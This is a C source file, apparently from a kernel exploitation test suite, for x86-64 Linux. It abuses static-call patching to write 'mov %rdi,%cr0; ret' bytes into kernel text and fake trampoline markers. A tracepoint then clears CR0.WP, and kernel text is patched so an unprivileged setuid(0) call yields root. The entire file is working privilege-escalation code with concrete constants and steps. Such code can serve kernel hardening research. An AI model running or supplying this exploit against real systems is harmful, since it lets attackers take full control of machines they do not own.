// SPDX-License-Identifier: GPL-2.0-only
/*
 * What a static call calls is data, so four bytes of the kernel's text are chosen by who
 * has it patched. They are instructions, and another static call leads to them: they clear
 * CR0.WP for the user of a tracepoint, who then writes to the kernel's text by a plain
 * store.
 *
 * A trampoline may be known by three bytes behind its jump. These are chosen as well, so
 * that there seems to be one four bytes ahead of a genuine one.
 */
#include <string.h>
#include <sys/time.h>
#include <unistd.h>

#include "attack.h"
#include "held.h"
#include "list.h"
#include "objects.h"
#include "static_calls.h"

#ifdef __x86_64__
#define FIRST		"__SCT__x86_pmu_handle_irq"
#define SECOND		"__SCT__x86_pmu_disable_all"	/* next to it */
#define TRACEPOINT	"itimer_state"
#define EVENT_TYPE	48		/* in struct trace_event_call */
#define FUNCS		128		/* where in a tracepoint they are, at most */
#define CR0		0x80050033UL
#define WITHOUT_WP	0x80040033UL

/* Displacements: a jump's first byte, what makes a trampoline, and mov %rdi,%cr0; ret */
#define JUMP		((int32_t)0xe9000000)
#define MARK		((int32_t)0x00ccb90f)
#define CODE		((int32_t)0xc3c7220f)

static struct {
	uint64_t at;
	int32_t disp;
} wanted;

static bool has_it(void)
{
	int32_t disp = 0;

	kread(wanted.at + 1, &disp, sizeof(disp));
	return disp == wanted.disp;
}

static bool patch(uint64_t at, bool is_site, int32_t disp)
{
	const struct patched_call call = {
		.site = is_site ? at : 0,
		.trampoline = is_site ? 0 : at,
		.called = at + CALL_SIZE + disp,
		.is_done = has_it,
	};

	wanted.at = at;
	wanted.disp = disp;
	return patch_call(&call);
}

/* The kernel's list says where the tracepoint calls. */
static uint64_t find_site(void)
{
	uint64_t at = ksymbol("__start_static_call_sites"), end = ksymbol("__stop_static_call_sites");
	uint64_t key = ksymbol("__SCK__tp_func_" TRACEPOINT);
	int32_t site[2];

	for (; at && at < end; at += sizeof(site)) {
		kread(at, site, sizeof(site));
		if (((at + 4 + site[1]) & ~3UL) == key)
			return at + site[0];
	}
	return 0;
}

/* What the tracepoint gives to its only function. */
static uint64_t find_data(uint64_t event)
{
	uint64_t at = ksymbol("__tracepoint_" TRACEPOINT), funcs;
	int i;

	for (i = 0; at && i < FUNCS; i += 8) {
		funcs = kread64(at + i);
		if (is_kernel_address(funcs) && !(funcs % 8) && !is_kernel_text(funcs) &&
		    is_kernel_text(kread64(funcs)) && kread64(funcs + 8) == event)
			return funcs + 8;
	}
	return 0;
}

/* By the tracepoint, which has the value in its first argument. */
static void set_cr0(uint64_t data, uint64_t value)
{
	struct itimerval timer = { { 0, 0 }, { 1000, 0 } };

	kwrite64(data, value);
	setitimer(ITIMER_REAL, &timer, NULL);
}

static enum outcome become_root(uint64_t data)
{
	uint64_t call = find_asking_call();
	int32_t yes = ksymbol(YES) - call - CALL_SIZE, no = ksymbol(ASKED) - call - CALL_SIZE;
	int stored, err;

	set_cr0(data, WITHOUT_WP);
	stored = kwrite(call + 1, &yes, sizeof(yes));
	err = !is_root_for_the_asking();
	if (!stored)
		kwrite(call + 1, &no, sizeof(no));
	set_cr0(data, CR0);
	if (stored || err)
		return lost("text has the instructions, the store gave %d, setuid(0) %d", stored, err);
	return won("instructions in a jump of a trampoline cleared CR0.WP; a store to text: setuid(0) by uid=%d is let through",
		   getuid());
}

static bool make_beside(uint64_t first)
{
	return patch(first, false, JUMP) && patch(first + 8, false, MARK) &&
	       patch(first + 4, false, CODE);
}

static enum outcome run_code(bool beside)
{
	uint64_t first = ksymbol(FIRST), site = find_site(), event = ksymbol("event_" TRACEPOINT);
	uint64_t code = first + (beside ? 5 : 1), data;
	enum outcome outcome;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	if (!site || !event || !first || ksymbol(SECOND) != first + 8 || !find_asking_call())
		return broken("no such calls");
	if (count_events((int)kread64(event + EVENT_TYPE)) < 0 || !static_calls_start())
		return broken("nobody counts " TRACEPOINT);
	data = find_data(event);
	if (!data)
		outcome = broken("no function of " TRACEPOINT);
	else if (!(beside ? make_beside(first) : patch(first, false, CODE)))
		outcome = lost("the kernel patched its own trampolines only");
	else if (!patch(site, true, code - site - CALL_SIZE))
		outcome = lost("text has the instructions; the tracepoint does not call them");
	else
		outcome = become_root(data);
	held_stop();
	return outcome;
}

enum outcome call_beside(void)
{
	return run_code(true);
}

enum outcome call_inside(void)
{
	return run_code(false);
}
#else
enum outcome call_beside(void)
{
	return skipped("x86-64 only");
}

enum outcome call_inside(void)
{
	return skipped("x86-64 only");
}
#endif
